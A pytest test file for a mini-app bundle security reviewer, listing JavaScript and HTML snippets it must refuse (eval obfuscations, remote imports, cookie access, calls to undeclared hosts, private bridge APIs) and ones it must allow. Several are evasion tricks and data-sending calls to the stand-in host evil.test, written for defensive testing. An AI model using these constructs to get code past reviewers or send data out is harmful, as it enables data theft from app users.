"""The code checks, one construct at a time, in a bundle whose manifest declares
api.example.com and *.cdn.example.com."""

from __future__ import annotations

import pytest

from services.miniapps.review import review_bundle
from tests.miniapps.bundles import line_of, valid_bundle


def rules_in(code: str, file: str = "app.js") -> list[str]:
    report = review_bundle(valid_bundle(**{file: code}))
    assert all(finding.file == file for finding in report.findings), report.findings
    return [finding.rule for finding in report.findings]


REFUSED = {
    # eval, however it is reached
    "eval('1')": "code/eval",
    "window['eval']('1')": "code/eval",
    "globalThis.eval('1')": "code/eval",
    "(0, eval)('1')": "code/eval",
    "self['ev' + 'al']('1')": "code/eval",
    "window['\\x65val']('1')": "code/eval",
    "top[`eval`]('1')": "code/eval",
    "const w = window; w.eval('1')": "code/eval",
    "const {eval: run} = window; run('1')": "code/eval",
    "var e = eval;": "code/eval",
    "const o = {eval}": "code/eval",
    # the Function constructor
    "new Function('return 1')": "code/new-function",
    "Function('return 1')()": "code/new-function",
    "window.Function('x')()": "code/new-function",
    "const F = Function": "code/new-function",
    "[].constructor.constructor('return this')()": "code/new-function",
    # timers given code
    "setTimeout('tick()', 10)": "code/string-timer",
    "window.setTimeout('tick(' + n + ')', 10)": "code/string-timer",
    "setInterval(`tick()`, 10)": "code/string-timer",
    # code from elsewhere
    "import('https://evil.test/m.js')": "code/remote-import",
    "import('//evil.test/m.js')": "code/remote-import",
    "import('data:text/javascript,alert(1)')": "code/remote-import",
    "import x from 'https://evil.test/x.js'": "code/remote-import",
    "export * from 'https://evil.test/x.js'": "code/remote-import",
    "importScripts('https://evil.test/w.js')": "code/remote-import",
    "import(name)": "code/dynamic-import",
    "import('h' + name)": "code/dynamic-import",
    # cookies
    "document.cookie": "code/document-cookie",
    "window.document.cookie = 'a=b'": "code/document-cookie",
    "document['cookie']": "code/document-cookie",
    "const {cookie} = document": "code/document-cookie",
    # hosts
    "fetch('https://evil.test/x')": "code/undeclared-domain",
    "fetch('//evil.test/x')": "code/undeclared-domain",
    "window.fetch('https://evil.test/x')": "code/undeclared-domain",
    "fetch('https://cdn.example.com/x')": "code/undeclared-domain",
    "fetch('https://api.example.com.evil.test/')": "code/undeclared-domain",
    "fetch('https://api.example.com@evil.test/')": "code/undeclared-domain",
    "fetch(`https://evil.test/items/${id}`)": "code/undeclared-domain",
    "const BASE = 'https://evil.test'; fetch(`${BASE}/x`)": "code/undeclared-domain",
    "new WebSocket('wss://evil.test/socket')": "code/undeclared-domain",
    "new EventSource('https://evil.test/stream')": "code/undeclared-domain",
    "navigator.sendBeacon('https://evil.test/b', data)": "code/undeclared-domain",
    "const x = new XMLHttpRequest(); x.open('POST', 'https://evil.test/')": (
        "code/undeclared-domain"
    ),
    # read as browsers read URLs, not as Python's urlsplit does
    "fetch('https://evil.test\\\\@api.example.com/')": "code/undeclared-domain",
    "fetch('\\\\\\\\evil.test/x')": "code/undeclared-domain",
    "fetch('/\\\\evil.test/x')": "code/undeclared-domain",
    "fetch(' https://evil.test/')": "code/undeclared-domain",
    "fetch('ht\\ttps://evil.test/')": "code/undeclared-domain",
    "import('\\\\\\\\evil.test/m.js')": "code/remote-import",
    "fetch(url)": "code/unverifiable-url",
    "fetch(`https://${host}/x`)": "code/unverifiable-url",
    "fetch('/' + path)": "code/unverifiable-url",
    "let base = 'https://api.example.com'; fetch(base)": "code/unverifiable-url",
    # the platform's private API
    "superapp.internal.bridge.call('x')": "code/private-api",
    "superapp._native": "code/private-api",
    "window.superapp.internal": "code/private-api",
    "superapp['internal']": "code/private-api",
    "const {internal} = superapp": "code/private-api",
    "__superappNative.post('x')": "code/private-api",
    "window.__superappNative": "code/private-api",
    "const s = superapp; s.internal": "code/private-api",
    # what cannot be seen through
    "window[name]('x')": "code/computed-global",
    "superapp[namespace].call()": "code/computed-global",
    # what cannot be parsed
    "function (": "code/parse-error",
}


@pytest.mark.parametrize(("code", "rule"), REFUSED.items(), ids=REFUSED.keys())
def test_a_construct_is_refused_with_its_rule(code: str, rule: str) -> None:
    assert rules_in(code) == [rule]


ALLOWED = [
    "Function.prototype.call.bind(f)",
    "x instanceof Function",
    "obj.evaluate(); myeval(); const o = {eval: 1}; o.eval",
    "setTimeout(() => tick(), 10); setInterval(tick, 10); setTimeout(fn)",
    "import('./chunk.js'); import(`./chunks/${name}.js`); import x from './x.js'",
    "fetch('/api/menu'); fetch('data.json'); fetch(`./items/${id}.json`)",
    "fetch('https://api.example.com/x'); fetch('https://API.example.com/x')",
    "fetch('https://a.b.cdn.example.com/x.png'); fetch('data:text/plain,hi')",
    "const API = 'https://api.example.com'; fetch(API + '/x'); fetch(`${API}/y/${id}`)",
    "fetch(`https://api.example.com/items/${id}`)",
    "const x = new XMLHttpRequest(); x.open('GET', '/api/x'); win.open('x', 'y')",
    "navigator.sendBeacon('/log', data)",
    "superapp.ui.toast('hi'); superapp.pay.request({amount: 1}); superapp.storage.get('k')",
    "items[index]; window.innerWidth; window['innerHeight']; document.title",
    "this._private = 1; other.internal = 2; cookie.jar",
    "class A { #x = 1; get x() { return this.#x; } }",
    "const el = <div onClick={() => go()}>hi</div>",
]


@pytest.mark.parametrize("code", ALLOWED)
def test_ordinary_code_passes(code: str) -> None:
    assert rules_in(code) == []


def test_findings_are_on_their_lines_in_order() -> None:
    code = "const a = 1;\n\nfetch('https://evil.test/');\nfunction f() {\n  eval(a);\n}\n"

    report = review_bundle(valid_bundle(**{"app.js": code}))

    assert [(finding.line, finding.rule) for finding in report.findings] == [
        (3, "code/undeclared-domain"),
        (5, "code/eval"),
    ]
    assert "'evil.test'" in report.findings[0].message
    assert "network_domains" in report.findings[0].message


def test_many_findings_of_one_rule_are_capped() -> None:
    report = review_bundle(valid_bundle(**{"app.js": "eval(1);\n" * 500}))

    assert len(report.findings) == 21
    assert report.findings[-1].line == 0
    assert "480 more" in report.findings[-1].message


HTML = """<!doctype html>
<html>
<head>
<script src="https://cdn.evil.test/lib.js"></script>
<script type="text/template"><div>eval(1)</div></script>
<script
  type="module">
  import { x } from "./x.js";
  eval(x);
</script>
<base href="https://evil.test/">
</head>
<body onload="init()">
<a href="javascript:eval(location.hash)">go</a>
<button onclick="document.cookie = ''">x</button>
</body>
</html>
"""


def test_html_scripts_are_checked_on_the_lines_of_the_page() -> None:
    report = review_bundle(valid_bundle(**{"index.html": HTML}))

    assert [(finding.file, finding.line, finding.rule) for finding in report.findings] == [
        ("index.html", line_of(HTML, "cdn.evil.test"), "code/remote-script"),
        ("index.html", line_of(HTML, "eval(x)"), "code/eval"),
        ("index.html", line_of(HTML, "<base"), "code/remote-base"),
        ("index.html", line_of(HTML, "javascript:"), "code/eval"),
        ("index.html", line_of(HTML, "onclick"), "code/document-cookie"),
    ]


def test_an_inline_script_on_the_tag_line_keeps_its_column() -> None:
    html = "<html><body>\n<p>hi</p><script>fetch('https://evil.test/')</script>\n</body></html>"

    report = review_bundle(valid_bundle(**{"index.html": html}))

    [finding] = report.findings
    assert (finding.line, finding.rule) == (2, "code/undeclared-domain")
    assert f"column {html.split(chr(10))[1].index('fetch') + 1}" in finding.message


@pytest.mark.parametrize(
    "code",
    [
        "a" + ".b" * 3000 + ".eval(1)",
        "x = " + " + ".join(["'a'"] * 3000),
        "f(" * 2500 + ")" * 2500,
        "p" + ".then(f)" * 1500,
    ],
    ids=["member chain", "concatenation", "nested calls", "promise chain"],
)
def test_code_nested_too_deep_to_review_is_refused(code: str) -> None:
    assert rules_in(code) == ["code/too-complex"]


def test_long_but_reasonable_chains_are_reviewed() -> None:
    code = "p" + ".then(f)" * 400 + ";\nx = " + " + ".join(["'a'"] * 500) + ";\neval(x);"

    assert rules_in(code) == ["code/eval"]


def test_a_script_left_open_at_the_end_of_a_page_is_reviewed() -> None:
    report = review_bundle(valid_bundle(**{"index.html": "<html>\n<script>\neval(1)"}))

    assert [(finding.line, finding.rule) for finding in report.findings] == [(3, "code/eval")]
